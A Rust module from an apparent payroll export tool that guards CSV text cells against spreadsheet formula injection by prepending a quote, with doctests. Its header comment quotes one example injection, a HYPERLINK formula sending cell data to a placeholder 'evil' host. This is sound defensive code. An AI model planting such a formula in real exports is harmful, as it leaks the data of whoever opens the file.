//! Spreadsheet-safe text cells for the CSV exports (statements, payroll batches).
//!
//! A CSV cell that begins with `=`, `+`, `-` or `@` (or a tab or carriage return) is read as a
//! formula by Excel, LibreOffice and Google Sheets: a rep or deal name such as
//! `=HYPERLINK("http://evil/?"&A1)` taken from a CRM would run when a payroll clerk opens the
//! export (CSV / formula injection). Following the OWASP advice, every *text* cell that starts
//! with one of those characters (or their full-width forms `＝ ＋ － ＠`, which some spreadsheets
//! also accept) is written with a leading single quote `'`, which spreadsheets show as text.
//! Money, rate and count columns are written by compcode itself from decimals and are never
//! altered: a negative amount stays `-50.00`, a number.
//!
//! The JSON exports are not changed: JSON carries the names exactly as stored.

use std::borrow::Cow;

/// The characters that make a spreadsheet read a cell as a formula.
const FORMULA_STARTS: [char; 10] = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/// A text cell made safe to open in a spreadsheet: `'` prepended when it starts with a formula
/// character, unchanged (and not copied) otherwise. Use it for names, ids, emails and other text
/// columns only, never for numbers.
///
/// ```
/// use compcode_core::csv_text::text_cell;
/// assert_eq!(text_cell("=1+2"), "'=1+2");
/// assert_eq!(text_cell("-50.00"), "'-50.00"); // as a *name*; money columns do not go through here
/// assert_eq!(text_cell("@SUM(A1)"), "'@SUM(A1)");
/// assert_eq!(text_cell("\tx"), "'\tx");
/// assert_eq!(text_cell("Ada = Lovelace"), "Ada = Lovelace");
/// assert_eq!(text_cell(""), "");
/// ```
pub fn text_cell(text: &str) -> Cow<'_, str> {
    match text.chars().next() {
        Some(c) if FORMULA_STARTS.contains(&c) => Cow::Owned(format!("'{text}")),
        _ => Cow::Borrowed(text),
    }
}
